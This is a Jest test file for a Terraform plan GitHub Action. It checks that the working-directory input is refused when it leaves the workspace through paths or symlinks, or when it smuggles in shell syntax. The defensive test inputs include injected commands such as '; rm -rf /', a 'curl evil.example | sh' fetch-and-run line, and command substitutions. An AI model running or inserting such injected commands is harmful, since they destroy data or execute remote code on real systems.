// The plan Action, run as a runner runs it: roots that leave the workspace or smuggle shell syntax are
// refused before any OIDC token is requested and before terraform runs.
import { afterEach, describe, expect, it } from "@jest/globals";
import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { Runner } from "../action/harness.js";
import { expectPost, inputs, noComments, oidc, posted, prEvent, sts } from "../action/mocks.js";

let runner: Runner | undefined;
afterEach(() => {
  runner?.cleanup();
  runner = undefined;
  posted.length = 0;
});

/** Runs with this working-directory; no OIDC/STS mock exists, so any token request would fail loudly. */
async function refused(workingDirectory: string, setup: (ws: string) => void = () => undefined) {
  runner?.cleanup();
  runner = new Runner({ ...inputs, "working-directory": workingDirectory }, prEvent).root("prod", {});
  setup(join(runner.dir, "ws"));
  const run = await runner.run();
  expect(run.ok).toBe(false);
  expect(run.calls).toEqual([]);
  expect(run.exported).toBe("");
  const error = run.stdout.find((line) => line.startsWith("::error::")) ?? "";
  expect(error).not.toMatch(/Nock|idtoken|sts/i);
  return error;
}

describe("working-directory stays inside the workspace", () => {
  it("refuses ../ out of the workspace", async () => {
    expect(await refused("../")).toMatch(/working-directory \.\.\/ resolves to .*, outside the workspace/);
  });

  it("refuses a path that climbs out after going in (prod/../../..)", async () => {
    expect(await refused("prod/../../..")).toMatch(/outside the workspace/);
  });

  it("refuses an absolute path elsewhere (/etc)", async () => {
    expect(await refused("/etc")).toMatch(/working-directory \/etc resolves to \/etc, outside the workspace/);
  });

  it("refuses the filesystem root (/)", async () => {
    expect(await refused("/")).toMatch(/outside the workspace/);
  });

  it("refuses a symlink inside the workspace that points out of it", async () => {
    const error = await refused("escape", (ws) => symlinkSync("/etc", join(ws, "escape")));
    expect(error).toMatch(/working-directory escape leads outside the workspace .* through a symlink/);
  });

  it("refuses a missing directory below a symlink that points out (escape/new)", async () => {
    const error = await refused("escape/new", (ws) => symlinkSync("/tmp", join(ws, "escape")));
    expect(error).toMatch(/through a symlink/);
  });

  it("refuses the whole list when one root escapes: the good root is not planned either", async () => {
    expect(await refused("prod\n../other")).toMatch(/\.\.\/other .*outside the workspace/);
  });

  it("still plans an absolute path that lies inside the workspace, by its real path", async () => {
    runner = new Runner({ ...inputs }, prEvent).root("prod", { plan: { code: 0 }, show: "no-changes.json" });
    const ws = join(runner.dir, "ws");
    mkdirSync(join(ws, "inner"));
    symlinkSync(join(ws, "prod"), join(ws, "inner", "alias"));
    runner.env.INPUT_WORKING_DIRECTORY = `${ws}/inner/alias`;
    oidc();
    sts();
    noComments();
    expectPost();
    const run = await runner.run();
    expect(run.ok).toBe(true);
    expect(run.calls[0]).toMatch(/^prod: init/);
  });
});

describe("root lists are parsed strictly, never as shell words", () => {
  it("rejects `; rm -rf /` as one invalid root instead of splitting it into roots", async () => {
    expect(await refused("; rm -rf /")).toBe(
      '::error::input working-directory: "; rm -rf /" is not a directory path (letters, digits, . _ - @ + = and /, one per line or comma)',
    );
  });

  it("rejects a command appended to a valid root (prod; curl evil | sh)", async () => {
    expect(await refused("prod; curl evil.example | sh")).toMatch(/input working-directory: "prod; curl/);
  });

  it("rejects command substitution and variables ($(id), ${HOME}, `id`)", async () => {
    for (const root of ["$(id)", "${HOME}", "`id`"])
      expect(await refused(root)).toMatch(/input working-directory: .* is not a directory path/);
  });

  it("does not split on spaces: `prod staging` is one invalid root, not two", async () => {
    expect(await refused("prod staging")).toMatch(/"prod staging" is not a directory path/);
  });

  it("rejects control and bidi characters hidden in a root", async () => {
    expect(await refused("prod\u202egnp")).toMatch(/is not a directory path/);
    expect(await refused("prod\u0000")).toMatch(/is not a directory path/);
  });

  it("rejects an absurd number of roots", async () => {
    const many = Array.from({ length: 51 }, (_, i) => `r${i}`).join(",");
    expect(await refused(many)).toMatch(/at most 50 directories/);
  });
});
